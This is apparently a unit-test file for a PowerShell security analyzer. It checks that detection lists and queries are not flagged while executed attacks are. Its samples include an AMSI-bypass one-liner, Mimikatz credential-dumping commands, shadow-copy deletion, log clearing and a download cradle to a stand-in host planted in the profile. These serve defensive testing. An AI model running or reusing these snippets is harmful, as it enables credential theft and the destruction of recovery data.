"""Focused cases for what the blind6n corpus (precision on defenders' and careful engineers' scripts) found: one
test per fixed false finding, each with a near miss (the real technique) that must stay reported."""

from __future__ import annotations

from tests.unit.analyzer.corpus_cases import analyze, lines_of


def test_an_indicator_list_only_searched_with_names_no_attack() -> None:
    result = analyze("""
        $indicators = @(
            'Invoke-Mimikatz'
            'sekurlsa::logonpasswords'
            'AmsiUtils'
        )
        foreach ($record in $events) {
            foreach ($indicator in $indicators) {
                if ($record.Message.IndexOf($indicator) -ge 0) {
                    $hits.Add([pscustomobject]@{ Indicator = $indicator; Id = $record.Id })
                }
            }
        }
        $iocs = @('mimikatz', 'procdump.*lsass', 'vssadmin.*delete shadows')
        Get-ChildItem -Path $LogFolder -Filter *.log | Select-String -Pattern $iocs
        Write-Verbose "$($iocs.Count) patterns"
        Get-Process | Where-Object { $_.Name -like 'mimikatz*' } | Stop-Process -WhatIf
    """)
    for rule in ("PSCredentialDumping", "PSAmsiBypass", "PSInhibitSystemRecovery"):
        assert lines_of(result, rule) == [], rule


def test_a_list_of_tool_commands_that_is_run_stays_reported() -> None:
    result = analyze("""
        $commands = @('privilege::debug', 'sekurlsa::logonpasswords', 'exit')
        & C:\\Users\\Public\\m.exe $commands
        $names = @('System.Management.Automation.AmsiUtils', 'amsiInitFailed')
        foreach ($name in $names) { $found = [Ref].Assembly.GetType($name) }
        $steps = 'vssadmin delete shadows /all /quiet', 'bcdedit /set {default} recoveryenabled no'
        foreach ($step in $steps) { cmd.exe /c $step }
        [Ref].Assembly.GetTypes() | Where-Object { $_.Name -like '*AmsiUtils' }
    """)
    assert lines_of(result, "PSCredentialDumping") == [1]
    assert lines_of(result, "PSAmsiBypass") == [3, 7]
    assert lines_of(result, "PSInhibitSystemRecovery") == [5]


def test_a_detection_rule_here_string_written_to_a_file_is_no_attack() -> None:
    result = analyze("""
        $rules = @{
            'amsi.yml' = @'
        detection:
            selection:
                ScriptBlockText|contains:
                    - 'System.Management.Automation.AmsiUtils'
                    - 'wevtutil cl Security'
        '@
        }
        foreach ($name in $rules.Keys) {
            Set-Content -Path (Join-Path $Folder $name) -Value $rules[$name]
        }
    """)
    assert lines_of(result, "PSAmsiBypass") == []
    assert lines_of(result, "PSClearEventLog") == []


def test_a_here_string_that_is_run_or_compiled_stays_reported() -> None:
    result = analyze("""
        $bypass = @'
        [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)
        '@
        Invoke-Expression $bypass
        Add-Type -TypeDefinition @'
        public class D { public static void Run() { System.Diagnostics.Process.Start("wevtutil.exe", "cl Security"); } }
        '@
    """)
    assert lines_of(result, "PSAmsiBypass") == [2]
    assert lines_of(result, "PSClearEventLog") == [6]


def test_secret_scanner_patterns_and_deploy_tokens_are_no_credentials() -> None:
    result = analyze("""
        $patterns = [ordered]@{
            'GitHub token'        = 'gh[pousr]_[A-Za-z0-9]{36,}'
            'Slack token'         = 'xox[baprs]-[0-9A-Za-z-]{10,}'
            'Password assignment' = '(?i)password\\s*[:=]\\s*\\S+'
        }
        $template = 'Server=sql01;Database=Orders;User Id=svc;Password=__DB_PASSWORD__;'
        $other = 'Server=sql01;User Id=svc;Password=#{DbPassword}#;'
        $apiKey = '$(PaymentsApiKey)'
        $config = @{ ApiKey = 'REPLACE_ME'; Password = 'TODO'; ClientSecret = 'your-client-secret'; Token = 'PUT_TOKEN_HERE' }
        $shown = @{ Password = '[REDACTED]'; ClientSecret = '{client_secret}'; ProxyPassword = 'none'; Pwd = '...' }
        Publish-Module -Path $ModulePath -Repository Internal -NuGetApiKey 'AzureDevOps'
    """)
    assert lines_of(result, "PSAvoidHardcodedCredential") == []


def test_real_secrets_next_to_patterns_and_tokens_stay_reported() -> None:
    result = analyze("""
        $settings = @{
            'GitHub token' = 'Tok3n-For-The-Build'
            Password       = 'Welcome'
        }
        $template = 'Server=sql01;Database=Orders;User Id=svc;Password=R3port#Load2024;'
        $apiKey = 'oy2kx7q9w3b5n8m1c4v6z0a2s5d7f9g1h3j5k7l9p0o2i'
        $config = @{ Password = 'Todo2024!' }
        Publish-Module -Path $ModulePath -Repository Internal -NuGetApiKey 'oy2kx7q9w3b5n8m1c4v6z0a2s5d7f9g1'
        Publish-Module -Path $ModulePath -Repository Internal -NuGetApiKey 'AzureDevOps2024'
    """)
    assert lines_of(result, "PSAvoidHardcodedCredential") == [2, 3, 5, 6, 7, 8, 9]


def test_hunt_patterns_in_tables_lists_defaults_switches_and_queries_are_no_attack() -> None:
    result = analyze("""
        param([string[]]$Indicators = @('Invoke-Mimikatz', 'AmsiUtils'))
        $iocs = @{
            Mimikatz = 'sekurlsa::logonpasswords'
            Shadow   = 'vssadmin delete shadows'
        }
        foreach ($name in $iocs.Keys) {
            if ($text -match [regex]::Escape($iocs[$name])) { Write-Output "hit: $name" }
        }
        Select-String -Path $logs -Pattern 'mimikatz', 'wevtutil cl Security'
        $pattern = 'Invoke-Mimikatz|amsiInitFailed'
        Get-ChildItem $dir -Recurse | Select-String -Pattern $pattern
        foreach ($line in Get-Content $Path) {
            switch -Regex ($line) {
                'sekurlsa::' { 'mimikatz seen' }
            }
            foreach ($i in $Indicators) { if ($line.Contains($i)) { $i } }
        }
        $query = @"
        DeviceProcessEvents
        | where ProcessCommandLine has "IEX (New-Object Net.WebClient).DownloadString("
        "@
        Invoke-RestMethod -Uri $uri -Method Post -Body (@{ query = $query } | ConvertTo-Json)
        $detections = 'powershell -ExecutionPolicy Bypass -WindowStyle Hidden', 'mshta http://'
        Get-Content $log | Select-String -SimpleMatch -Pattern $detections
    """)
    for rule in ("PSCredentialDumping", "PSAmsiBypass", "PSInhibitSystemRecovery", "PSClearEventLog",
                 "PSDownloadCradle", "PSExecutionPolicyBypass"):
        assert lines_of(result, rule) == [], rule


def test_the_same_text_planted_passed_on_or_run_stays_reported() -> None:
    result = analyze("""
        $stager = @'
        IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')
        '@
        Add-Content -Path $PROFILE -Value $stager
        $argv = @('-NoProfile', '-ExecutionPolicy Bypass', '-File', 'C:\\Users\\Public\\u.ps1')
        Start-Process powershell.exe -ArgumentList $argv
        $tools = @{ Dumper = 'sekurlsa::logonpasswords'; Exit = 'exit' }
        & C:\\Users\\Public\\m.exe $tools.Dumper $tools.Exit
        switch ($mode) { 'dump' { & .\\mimikatz.exe 'sekurlsa::logonpasswords' exit } }
        function Get-Stage { 'vssadmin.exe delete shadows /all /quiet' }
        cmd.exe /c (Get-Stage)
    """)
    assert lines_of(result, "PSDownloadCradle") == [2]
    assert lines_of(result, "PSExecutionPolicyBypass") == [5]
    assert lines_of(result, "PSCredentialDumping") == [7, 9]
    assert lines_of(result, "PSInhibitSystemRecovery") == [10]


def test_a_sweep_that_finds_or_removes_a_tool_and_report_fields_naming_it_are_no_attack() -> None:
    result = analyze("""
        Get-Process -Name mimikatz -ErrorAction SilentlyContinue | Stop-Process -Force
        if (Test-Path -Path 'C:\\Windows\\Temp\\mimikatz.exe') { Remove-Item -Path 'C:\\Windows\\Temp\\mimikatz.exe' }
        $report.Add([pscustomobject]@{ Finding = 'Possible Mimikatz usage'; Host = $env:COMPUTERNAME })
        $rule = @{ Title = 'Detect vssadmin delete shadows'; Level = 'high' }
    """)
    assert lines_of(result, "PSCredentialDumping") == []
    assert lines_of(result, "PSInhibitSystemRecovery") == []


def test_the_tool_started_or_given_as_a_payload_field_stays_reported() -> None:
    result = analyze("""
        Start-Process -FilePath 'C:\\Windows\\Temp\\mimikatz.exe' -ArgumentList 'sekurlsa::logonpasswords', 'exit'
        & C:\\Windows\\Temp\\mimikatz.exe privilege::debug exit
        $job = @{ Command = 'vssadmin delete shadows /all /quiet' }
        cmd.exe /c $job.Command
    """)
    assert lines_of(result, "PSCredentialDumping") == [1, 2]
    assert lines_of(result, "PSInhibitSystemRecovery") == [3]


def test_scanner_and_hunt_patterns_name_key_headers_and_command_lines() -> None:
    result = analyze("""
        if ($content.Contains('-----BEGIN RSA PRIVATE KEY-----')) { Write-Warning 'private key staged' }
        $sample = 'powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMA'
        if ($cmd -eq $sample) { 'match' }
    """)
    assert lines_of(result, "PSHardcodedSecretKey") == []
    assert lines_of(result, "PSEncodedCommand") == []


def test_real_keys_private_key_blocks_and_encoded_launches_stay_reported() -> None:
    result = analyze("""
        $accessKey = 'AKIAQ3EGT7XW5ZKLMN4P'
        $pem = @'
        -----BEGIN RSA PRIVATE KEY-----
        MIIEowIBAAKCAQEAx7
        -----END RSA PRIVATE KEY-----
        '@
        Set-Content -Path .\\id_rsa -Value $pem
        $launch = 'powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMA'
        cmd.exe /c $launch
    """)
    assert lines_of(result, "PSHardcodedSecretKey") == [1, 3]
    assert lines_of(result, "PSEncodedCommand") == [8]


def test_joined_patterns_and_pester_samples_of_a_detection_are_no_attack() -> None:
    result = analyze("""
        $patterns = @('sekurlsa::', 'Invoke-Mimikatz', 'AmsiUtils')
        $regex = ($patterns | ForEach-Object { [regex]::Escape($_) }) -join '|'
        Get-Content $log | Where-Object { $_ -match $regex }
        Describe 'Find-Indicator' {
            It 'flags Mimikatz command lines' {
                Find-Indicator -CommandLine 'mimikatz.exe "sekurlsa::logonpasswords" exit' | Should -BeTrue
            }
            It 'flags shadow copy deletion' {
                $result = Find-Indicator -CommandLine 'vssadmin.exe delete shadows /all /quiet'
                $result | Should -BeTrue
            }
        }
    """)
    for rule in ("PSCredentialDumping", "PSAmsiBypass", "PSInhibitSystemRecovery"):
        assert lines_of(result, rule) == [], rule


def test_joined_text_that_is_run_and_a_test_that_runs_its_sample_stay_reported() -> None:
    result = analyze("""
        $parts = @('vssadmin delete', ' shadows /all /quiet')
        $command = $parts -join ''
        cmd.exe /c $command
        It 'runs the sample' {
            $sample = 'vssadmin.exe delete shadows /all /quiet'
            Invoke-Expression $sample
        }
    """)
    assert lines_of(result, "PSInhibitSystemRecovery") == [1, 2, 5]


def test_a_technique_table_of_indicator_lists_is_data_and_a_table_of_steps_that_run_is_not() -> None:
    result = analyze("""
        $ttps = [ordered]@{
            'T1003' = @('sekurlsa::logonpasswords', 'lsadump::sam')
            T1562   = 'AmsiUtils'
        }
        foreach ($entry in $ttps.GetEnumerator()) {
            $hits = Select-String -Path $Log -Pattern $entry.Value -SimpleMatch
            if ($hits) { Write-Warning "$($entry.Key): $($hits.Count) hits" }
        }
        $steps = @{ Dump = @('privilege::debug', 'sekurlsa::logonpasswords'); Run = { & .\\m.exe $args } }
        & $steps.Run $steps.Dump
    """)
    assert lines_of(result, "PSCredentialDumping") == [9]
    assert lines_of(result, "PSAmsiBypass") == []


def test_siem_queries_sent_as_query_fields_are_no_attack() -> None:
    result = analyze("""
        $queries = @{
            ShadowDelete = "DeviceProcessEvents | where ProcessCommandLine has_all ('vssadmin', 'delete', 'shadows')"
            AmsiTamper   = "DeviceEvents | where AdditionalFields has 'amsiInitFailed'"
        }
        foreach ($name in $queries.Keys) {
            $result = Invoke-RestMethod -Method Post -Uri $Api -Body (@{ Query = $queries[$name] } | ConvertTo-Json)
            Write-Output "$name : $($result.Results.Count)"
        }
        $tamper = @{ Payload = "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')" }
        Invoke-Expression $tamper.Payload
        $report = @{ Finding = "$(vssadmin.exe delete shadows /all /quiet)" }
    """)
    assert lines_of(result, "PSInhibitSystemRecovery") == [11]
    assert lines_of(result, "PSAmsiBypass") == [9]


def test_a_loop_over_commands_that_starts_or_plants_them_stays_reported() -> None:
    result = analyze("""
        $steps = @('vssadmin delete shadows /all /quiet', 'wbadmin delete catalog -quiet')
        foreach ($step in $steps) { Start-Process cmd.exe -ArgumentList "/c $step" -WindowStyle Hidden }
        $lines = @('sekurlsa::logonpasswords', 'lsadump::sam')
        foreach ($line in $lines) { Out-File -FilePath $PROFILE -InputObject $line -Append }
        $hashes = @('sekurlsa::pth', 'lsadump::dcsync')
        foreach ($h in $hashes) { $splat = @{ FilePath = 'C:\\ProgramData\\m.exe'; ArgumentList = $h }; Start-Process @splat }
    """)
    assert lines_of(result, "PSInhibitSystemRecovery") == [1]
    assert lines_of(result, "PSCredentialDumping") == [3, 5]
